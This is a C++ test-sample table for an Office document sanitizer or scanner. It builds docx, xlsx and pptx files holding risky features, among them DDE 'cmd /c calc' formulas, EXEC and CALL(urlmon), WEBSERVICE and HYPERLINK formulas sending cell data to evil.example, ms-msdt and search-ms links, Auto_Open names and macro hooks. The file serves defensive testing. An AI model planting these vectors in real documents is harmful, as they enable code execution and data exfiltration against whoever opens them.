      {"ooxml/ink", "a.docx", false, {"OOXML-064"}, {"contentPart"}, {}, [] { return word_with("<w:r><w14:contentPart r:id=\"rId9\"/></w:r>", "M:2006/relationships/recovered", "ink.xml", false).build(); }},
      {"ooxml/legacy-text", "a.docx", false, {"OOXML-065"}, {"PAYLOAD"}, {}, [] { return doc_extra("M:2006/relationships/legacyDocTextInfo", "word/legacy.bin", "application/vnd.ms-office.legacyDocTextInfo"); }},
      {"ooxml/document-tasks", "a.docx", false, {"OOXML-066"}, {"PAYLOAD"}, {}, [] { return doc_extra("M:2019/05/relationships/documenttasks", "word/documenttasks/documenttasks1.xml", "application/vnd.ms-office.documenttasks+xml"); }},
      {"ooxml/unknown-part", "a.docx", false, {"OOXML-067"}, {"PAYLOAD"}, {}, [] { return doc_extra("http://example.com/rel", "word/x.xml", "application/xml"); }},
      {"ooxml/bad-link", "a.docx", false, {"GEN-010"}, {"ms-msdt"}, {"click"}, [] { return word_with("<w:hyperlink r:id=\"rId9\">" + text("click") + "</w:hyperlink>", "O:hyperlink", "ms-msdt:/id PCWDiagnostic", true).build(); }},
      // Excel
      {"ooxml/macro-sheet", "a.xlsm", false, {"SML-001"}, {"PAYLOAD", "XLM"}, {"\"a\""}, [] { B b = B::xlsx("<sheetData/>"); b.set_main_type("application/vnd.ms-excel.sheet.macroEnabled.main+xml"); b.replace(kBook, "<workbook" + string(kSheetNamespaces) + "><bookViews><workbookView activeTab=\"0\"/></bookViews><sheets><sheet name=\"XLM\" sheetId=\"2\" r:id=\"rId77\"/><sheet name=\"a\" sheetId=\"1\" r:id=\"rId1\"/></sheets><definedNames><definedName name=\"k\" localSheetId=\"1\">a!A1</definedName></definedNames></workbook>"); return extra(b, kBook, "M:2006/relationships/xlMacrosheet", "xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"); }},
      {"ooxml/intl-macro-sheet", "a.xlsx", false, {"SML-002"}, {"PAYLOAD"}, {}, [] { return book_extra("M:2006/relationships/xlIntlMacrosheet", "xl/macrosheets/intl1.xml", "application/vnd.ms-excel.intlmacrosheet+xml"); }},
      {"ooxml/dialog-sheet", "a.xlsx", false, {"SML-003"}, {"PAYLOAD"}, {}, [] { return book_extra("O:dialogsheet", "xl/dialogsheets/sheet1.xml", "V:spreadsheetml.dialogsheet+xml"); }},
      {"ooxml/auto-open", "a.xlsx", false, {"SML-004"}, {"uto_", "definedNames"}, {}, [] { return book("<definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">a!$A$1</definedName></definedNames>"); }},
      {"ooxml/name-xlm", "a.xlsx", false, {"SML-005"}, {"xlm="}, {"good"}, [] { return book("<definedNames><definedName name=\"good\" xlm=\"1\" function=\"1\">a!$A$1</definedName></definedNames>"); }},
      {"ooxml/name-call", "a.xlsx", false, {"SML-010"}, {"CALL"}, {}, [] { return book("<definedNames><definedName name=\"x\">CALL(\"urlmon\",\"X\")</definedName></definedNames>"); }},
      {"ooxml/formula-external", "a.xlsx", false, {"SML-006"}, {"[1]"}, {"42"}, [] { return cell("[1]Sheet1!A1+1"); }},
      {"ooxml/formula-dde", "a.xlsx", false, {"SML-007"}, {"cmd"}, {"42"}, [] { return cell("cmd|'/c calc'!A0"); }},
      {"ooxml/formula-webservice", "a.xlsx", false, {"SML-008"}, {"WEBSERVICE"}, {"42"}, [] { return cell("_xlfn.WEBSERVICE(\"http://evil.example/\"&amp;A2)"); }},
      {"ooxml/formula-rtd", "a.xlsx", false, {"SML-009"}, {"RTD"}, {"42"}, [] { return cell("RTD(\"a.b\",,\"x\")"); }},
      {"ooxml/formula-exec", "a.xlsx", false, {"SML-010"}, {"EXEC"}, {"42"}, [] { return cell("EXEC (\"calc\")"); }},
      {"ooxml/formula-python", "a.xlsx", false, {"SML-011"}, {"PY("}, {"42"}, [] { return cell("_xlfn._xlws.PY(0,1)"); }},
      {"ooxml/formula-hyperlink", "a.xlsx", false, {"SML-012"}, {"HYPERLINK"}, {"42"}, [] { return cell("HYPERLINK(\"http://evil.example/\"&amp;A1,\"x\")"); }},
      {"ooxml/formula-good", "a.xlsx", false, {}, {}, {"SUM(A1:B2,Table1[[#Headers],[a|b]])&amp;HYPERLINK(\"https://example.jp/\")", "42"}, [] { return cell("SUM(A1:B2,Table1[[#Headers],[a|b]])&amp;HYPERLINK(\"https://example.jp/\")"); }},
      {"ooxml/formula-validation", "a.xlsx", false, {"SML-015"}, {"[1]"}, {"#REF!"}, [] { return B::xlsx("<sheetData/><dataValidations count=\"1\"><dataValidation type=\"list\" sqref=\"A1\"><formula1>[1]a!A1</formula1></dataValidation></dataValidations>").build(); }},
      {"ooxml/formula-shared", "a.xlsx", false, {"SML-007"}, {"<f"}, {"42", "43"}, [] { return B::xlsx("<sheetData><row r=\"1\"><c r=\"A1\"><f t=\"shared\" ref=\"A1:B1\" si=\"0\">cmd|'x'!A0</f><v>42</v></c><c r=\"B1\"><f t=\"shared\" si=\"0\"/><v>43</v></c></row></sheetData>").build(); }},
      {"ooxml/connections", "a.xlsx", false, {"SML-017"}, {"PAYLOAD"}, {}, [] { return book_extra("O:connections", "xl/connections.xml", "V:spreadsheetml.connections+xml"); }},
      {"ooxml/query-table", "a.xlsx", false, {"SML-018"}, {"PAYLOAD"}, {}, [] { return extra(B::xlsx("<sheetData/>"), kSheet, "O:queryTable", "xl/queryTables/queryTable1.xml", "V:spreadsheetml.queryTable+xml"); }},
      {"ooxml/power-pivot", "a.xlsx", false, {"SML-019"}, {"PAYLOAD"}, {}, [] { return book_extra("O:powerPivotData", "xl/model/item.data", "V:model+data"); }},
      {"ooxml/pivot-external", "a.xlsx", false, {"SML-020"}, {"pivotCache"}, {}, [] { B b = B::xlsx("<sheetData/>"); b.replace(kBook, "<workbook" + string(kSheetNamespaces) + "><sheets><sheet name=\"a\" sheetId=\"1\" r:id=\"rId1\"/></sheets><pivotCaches><pivotCache cacheId=\"1\" r:id=\"rId77\"/></pivotCaches></workbook>"); return extra(b, kBook, "O:pivotCacheDefinition", "xl/pivotCache/pivotCacheDefinition1.xml", "V:spreadsheetml.pivotCacheDefinition+xml", "<pivotCacheDefinition" + string(kSheetNamespaces) + "><cacheSource type=\"external\" connectionId=\"1\"/></pivotCacheDefinition>"); }},
      {"ooxml/external-book", "a.xlsx", false, {"SML-021"}, {"externalBook", "externalReferences", "evil"}, {}, [] { B b = B::xlsx("<sheetData/>"); b.replace(kBook, "<workbook" + string(kSheetNamespaces) + "><sheets><sheet name=\"a\" sheetId=\"1\" r:id=\"rId1\"/></sheets><externalReferences><externalReference r:id=\"rId77\"/></externalReferences></workbook>"); b.relate("xl/externalLinks/externalLink1.xml", "rId1", "O:externalLinkPath", "file:///\\\\evil\\a.xlsx", true); return extra(b, kBook, "O:externalLink", "xl/externalLinks/externalLink1.xml", "V:spreadsheetml.externalLink+xml", "<externalLink" + string(kSheetNamespaces) + "><externalBook r:id=\"rId1\"/></externalLink>"); }},
      {"ooxml/dde-link", "a.xlsx", false, {"SML-022"}, {"ddeLink"}, {}, [] { return book_extra("O:externalLink", "xl/externalLinks/externalLink1.xml", "V:spreadsheetml.externalLink+xml", "<externalLink" + string(kSheetNamespaces) + "><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"); }},
      {"ooxml/ole-link", "a.xlsx", false, {"SML-023"}, {"oleLink"}, {}, [] { return book_extra("O:externalLink", "xl/externalLinks/externalLink1.xml", "V:spreadsheetml.externalLink+xml", "<externalLink" + string(kSheetNamespaces) + "><oleLink progId=\"x\" r:id=\"rId1\"/></externalLink>"); }},
      {"ooxml/sheet-ole", "a.xlsx", false, {"SML-025", "OOXML-045"}, {"oleObject", "PAYLOAD"}, {}, [] { return extra(B::xlsx("<sheetData/><oleObjects><oleObject progId=\"Package\" shapeId=\"1025\" r:id=\"rId77\"/></oleObjects>"), kSheet, "O:oleObject", "xl/embeddings/o.bin", "V:oleObject"); }},
      {"ooxml/sheet-controls", "a.xlsx", false, {"SML-026"}, {"controls", "Evil"}, {}, [] { return B::xlsx("<sheetData/><controls><control shapeId=\"1\" r:id=\"rId77\" name=\"Evil\"/></controls>").build(); }},
      {"ooxml/shape-macro", "a.xlsx", false, {"SML-027"}, {"Evil"}, {"macro=\"\""}, [] { return extra(B::xlsx("<sheetData/><drawing r:id=\"rId77\"/>"), kSheet, "O:drawing", "xl/drawings/drawing1.xml", "V:drawing+xml", "<xdr:wsDr xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\"><xdr:absoluteAnchor><xdr:sp macro=\"[0]!Evil\" textlink=\"\"/></xdr:absoluteAnchor></xdr:wsDr>"); }},
      {"ooxml/sheet-link", "a.xlsx", false, {"GEN-010"}, {"search-ms", "<hyperlinks"}, {}, [] { B b = B::xlsx("<sheetData/><hyperlinks><hyperlink ref=\"A1\" r:id=\"rId9\"/></hyperlinks>"); return b.relate(kSheet, "rId9", "O:hyperlink", "search-ms:query=x", true).build(); }},
      {"ooxml/code-name", "a.xlsx", false, {"SML-029"}, {"codeName"}, {}, [] { return B::xlsx("<sheetPr codeName=\"Evil\"/><sheetData/>").build(); }},
      {"ooxml/file-sharing", "a.xlsx", false, {"SML-030", "SML-033", "SML-036", "SML-037"}, {"fileSharing"}, {}, [] { return book("<fileSharing readOnlyRecommended=\"1\"/><customWorkbookViews/><webPublishing/><functionGroups/>"); }},
      {"ooxml/revisions", "a.xlsx", false, {"SML-034"}, {"PAYLOAD"}, {}, [] { return book_extra("O:revisionHeaders", "xl/revisions/revisionHeaders.xml", "V:spreadsheetml.revisionHeaders+xml"); }},
      {"ooxml/xml-maps", "a.xlsx", false, {"SML-035"}, {"PAYLOAD"}, {}, [] { return book_extra("O:xmlMaps", "xl/xmlMaps.xml", "application/xml"); }},
      {"ooxml/sheet-custom-property", "a.xlsx", false, {"SML-039"}, {"PAYLOAD"}, {}, [] { return extra(B::xlsx("<sheetData/>"), kSheet, "O:customProperty", "xl/customProperty1.bin", "V:spreadsheetml.customProperty"); }},
      {"ooxml/survey", "a.xlsx", false, {"SML-040"}, {"PAYLOAD"}, {}, [] { return book_extra("O:Survey", "xl/survey.xml", "application/xml"); }},
      {"ooxml/custom-data", "a.xlsx", false, {"SML-041"}, {"PAYLOAD"}, {}, [] { return book_extra("M:2007/relationships/customData", "xl/customData/a.data", "application/binary"); }},
      {"ooxml/web-image", "a.xlsx", false, {"SML-043", "SML-044"}, {"PAYLOAD", "vm="}, {"42"}, [] { B b = B::xlsx("<sheetData><row r=\"1\"><c r=\"A1\" vm=\"1\"><v>42</v></c></row></sheetData>"); b.part("xl/metadata.xml", "V:spreadsheetml.sheetMetadata+xml", "<metadata" + string(kSheetNamespaces) + "/>"); b.relate(kBook, "rId5", "O:sheetMetadata", "metadata.xml"); return extra(b, kBook, "M:2020/07/relationships/rdRichValueWebImage", "xl/richData/rdRichValueWebImage.xml", "application/vnd.ms-excel.rdrichvaluewebimage+xml"); }},
      {"ooxml/named-views", "a.xlsx", false, {"SML-045"}, {"PAYLOAD"}, {}, [] { return extra(B::xlsx("<sheetData/>"), kSheet, "M:2019/04/relationships/namedSheetView", "xl/namedSheetViews/v.xml", "application/vnd.ms-excel.namedsheetviews+xml"); }},
      {"ooxml/calc-chain", "a.xlsx", false, {"SML-047"}, {"calcChain"}, {}, [] { return book_extra("O:calcChain", "xl/calcChain.xml", "V:spreadsheetml.calcChain+xml"); }},
      // PowerPoint
      {"ooxml/action-program", "a.pptx", false, {"PML-001"}, {"hlinkClick"}, {}, [] { return slide_action("ppaction://program"); }},
      {"ooxml/action-hover", "a.pptx", false, {"PML-002"}, {"hlinkHover"}, {}, [] { B b = B::pptx(shape("<a:hlinkHover r:id=\"rId9\"/>")); return b.relate(kSlide, "rId9", "O:hyperlink", "https://example.jp/", true).build(); }},
      {"ooxml/action-macro", "a.pptx", false, {"PML-003"}, {"hlinkClick"}, {}, [] { return slide_action("ppaction://macro?name=Evil"); }},
      {"ooxml/action-ole", "a.pptx", false, {"PML-004"}, {"hlinkClick"}, {}, [] { return slide_action("ppaction://ole?verb=0"); }},
      {"ooxml/action-file", "a.pptx", false, {"PML-005"}, {"hlinkClick"}, {}, [] { return slide_action("PPAction://HlinkFile"); }},
      {"ooxml/action-unknown", "a.pptx", false, {"PML-007"}, {"hlinkClick"}, {}, [] { return slide_action("ppaction://new"); }},
      {"ooxml/action-jump", "a.pptx", false, {}, {}, {"hlinkshowjump"}, [] { return slide_action("ppaction://hlinkshowjump?jump=nextslide"); }},
      {"ooxml/slide-ole", "a.pptx", false, {"PML-008", "OOXML-045"}, {"graphicFrame", "oleObj", "PAYLOAD", "AlternateContent"}, {"<p:pic>"}, [] { return extra(B::pptx("<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id=\"4\" name=\"o\"/></p:nvGraphicFramePr><p:xfrm/><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/presentationml/2006/ole\"><mc:AlternateContent><mc:Choice Requires=\"v\"><p:oleObj spid=\"_x\" r:id=\"rId77\" progId=\"Package\"><p:embed/></p:oleObj></mc:Choice><mc:Fallback><p:oleObj r:id=\"rId77\" progId=\"Package\"><p:embed/><p:pic><p:nvPicPr/></p:pic></p:oleObj></mc:Fallback></mc:AlternateContent></a:graphicData></a:graphic></p:graphicFrame>"), kSlide, "O:oleObject", "ppt/embeddings/o.bin", "V:oleObject"); }},
      {"ooxml/slide-controls", "a.pptx", false, {"PML-009"}, {"control"}, {}, [] { B b = B::pptx(""); return b.replace(kSlide, "<p:sld" + string(kSlideNamespaces) + "><p:cSld><p:spTree/><p:controls><p:control r:id=\"rId9\"/></p:controls></p:cSld></p:sld>").build(); }},
      {"ooxml/timing-verb", "a.pptx", false, {"PML-010"}, {"timing", "p:cmd"}, {}, [] { B b = B::pptx(""); return b.replace(kSlide, "<p:sld" + string(kSlideNamespaces) + "><p:cSld><p:spTree/></p:cSld><p:timing><p:tnLst><p:par><p:cTn id=\"1\"><p:childTnLst><p:cmd type=\"verb\" cmd=\"0\"/></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing></p:sld>").build(); }},
      {"ooxml/timing-good", "a.pptx", false, {}, {}, {"p:timing", "p:par"}, [] { B b = B::pptx(""); return b.replace(kSlide, "<p:sld" + string(kSlideNamespaces) + "><p:cSld><p:spTree/></p:cSld><p:timing><p:tnLst><p:par><p:cTn id=\"1\"/></p:par></p:tnLst></p:timing></p:sld>").build(); }},
      {"ooxml/slide-tags", "a.pptx", false, {"PML-019"}, {"custData", "PAYLOAD"}, {}, [] { B b = B::pptx(""); b.replace(kSlide, "<p:sld" + string(kSlideNamespaces) + "><p:cSld><p:spTree/><p:custDataLst><p:tags r:id=\"rId77\"/></p:custDataLst></p:cSld></p:sld>"); return extra(b, kSlide, "O:tags", "ppt/tags/tag1.xml", "V:presentationml.tags+xml"); }},
      {"ooxml/slide-external", "a.pptx", false, {"PML-017"}, {"evil.example", "\"257\""}, {"\"256\""}, [] { B b = B::pptx(""); b.replace("ppt/presentation.xml", "<p:presentation" + string(kSlideNamespaces) + "><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId1\"/><p:sldId id=\"257\" r:id=\"rId9\"/></p:sldIdLst></p:presentation>"); return b.relate("ppt/presentation.xml", "rId9", "O:slide", "http://evil.example/s.xml", true).build(); }},
      // DrawingML and VML
      {"ooxml/svg", "a.docx", false, {"DML-003"}, {"svgBlip"}, {"a:blip"}, [] { return word(picture("<a:blip><a:extLst><a:ext uri=\"{96DAC541-7B7A-43D3-8B79-37D633B846F1}\"><q:svgBlip xmlns:q=\"http://schemas.microsoft.com/office/drawing/2016/SVG/main\" r:embed=\"rId5\"/></a:ext></a:extLst></a:blip>")); }},
      {"ooxml/chart-external", "a.docx", false, {"OOXML-048", "DML-011"}, {"externalData", "evil.example", "[1]"}, {"chartSpace", "#REF!"}, [] { B b = word_with(text("x"), "O:chart", "charts/chart1.xml", false); b.part("word/charts/chart1.xml", "V:drawingml.chart+xml", "<c:chartSpace" + string(kWordNamespaces) + "><c:f>[1]a!A1</c:f><c:externalData r:id=\"rId1\"><c:autoUpdate val=\"1\"/></c:externalData></c:chartSpace>"); return b.relate("word/charts/chart1.xml", "rId1", "O:package", "http://evil.example/a.xlsx", true).build(); }},
      {"ooxml/vml-link", "a.docx", false, {"DML-016", "DML-017"}, {"evil.example", "javascript"}, {"v:shape"}, [] { return word("<w:r><w:pict><v:shape href=\"javascript:x\"><v:imagedata src=\"http://evil.example/a.png\"/></v:shape></w:pict></w:r>"); }},
      {"ooxml/vml-script", "a.xlsx", false, {"DML-019"}, {"ScriptText", "FmlaMacro"}, {"Anchor"}, [] { return extra(B::xlsx("<sheetData/><legacyDrawing r:id=\"rId77\"/>"), kSheet, "O:vmlDrawing", "xl/drawings/vmlDrawing1.vml", "V:vmlDrawing", "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><v:shape><x:ClientData ObjectType=\"Note\"><x:Anchor>1</x:Anchor><x:FmlaMacro>Evil</x:FmlaMacro><x:ScriptText>x</x:ScriptText></x:ClientData></v:shape></xml>"); }},
  };
  return samples;
}

}  // namespace

std::span<const Sample> ooxml_samples() {
  return table();
}

}  // namespace mugai::testing
